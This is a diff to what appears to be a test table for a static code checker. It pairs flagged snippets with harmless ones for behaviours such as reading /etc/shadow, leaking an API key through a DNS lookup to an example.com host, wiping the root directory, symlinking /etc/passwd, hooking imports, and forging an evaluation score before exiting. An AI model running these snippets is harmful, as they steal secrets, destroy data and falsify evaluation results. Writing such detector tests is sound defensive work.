@@ -83,6 +83,14 @@ STATIC: dict[str, tuple[bytes, bytes]] = {
     ),
     "replaces_module": (b"import sys\nsys.modules['plotting'] = None", b"import sys\nx = 'json' in sys.modules"),
     "forges_harness": (b"import sys\nsys.modules['json'] = x", b"import sys\nx = sys.modules['json']"),
+    "opens_model": (
+        b"def evaluate_model(model):\n    return model.generate.__self__",
+        b"def evaluate_model(model):\n    return model.__class__.__name__",
+    ),
+    "looks_into_model": (
+        b"def evaluate_model(model):\n    return model._channel",
+        b"def evaluate_model(model):\n    return model.name",
+    ),
     "unpickles_literal": (b"import pickle\npickle.loads(b'I1\\n.')", b"import pickle\npickle.loads(pickle.dumps(x))"),
     "unpickles": (b"import pickle\npickle.load(file)", b"import json\njson.load(file)"),
     "sensitive_file": (b"open('/etc/' + 'shadow')", b"print('open /etc/shadow')"),
@@ -99,6 +107,23 @@ STATIC: dict[str, tuple[bytes, bytes]] = {
     "reads_credentials": (b"import os\nos.getenv('OPENAI_API_KEY')", b"import os\nos.getenv('LIMIT')"),
     "foreign_descriptor": (b"import os\nos.write(5, b'x')", b"import os\nos.write(1, b'x')"),
     "persistence": (b"open('/etc/cron.d/x', 'w')", b"open('cron.txt', 'w')"),
+    "hooks_imports": (b"import sys\nsys.meta_path.insert(0, x)", b"import sys\nsys.path.insert(0, 'x')"),
+    "loads_foreign_code": (
+        b"import importlib.util\nimportlib.util.spec_from_file_location('a', '/tmp/a.py')",
+        b"import importlib.util\nimportlib.util.spec_from_file_location('a', 'a.py')",
+    ),
+    "links_system_file": (b"import os\nos.symlink('/etc/passwd', 'a')", b"import os\nos.symlink('a', 'b')"),
+    "patches_library": (b"import time\ntime.time = lambda: 0.0", b"import time\nstart = time.time()"),
+    "leaks_credentials": (
+        b"import os, socket\nsocket.gethostbyname(os.getenv('API_KEY') + '.example.com')",
+        b"import os, socket\nx = os.getenv('API_KEY'), socket.gethostname()",
+    ),
+    "forges_result": (
+        b"import os\nprint('{\"score\": 1}')\nos._exit(0)",
+        b"import sys\nprint('{\"score\": 1}')\nsys.exit(0)",
+    ),
+    "destroys_files": (b"import shutil\nshutil.rmtree('/')", b"import shutil\nshutil.rmtree('out')"),
+    "capabilities": (b"open('x')", b"print('x')"),
     "uses_network_modules": (b"import socket", b"import json"),
     "uses_process_modules": (b"import subprocess", b"import json"),
 }
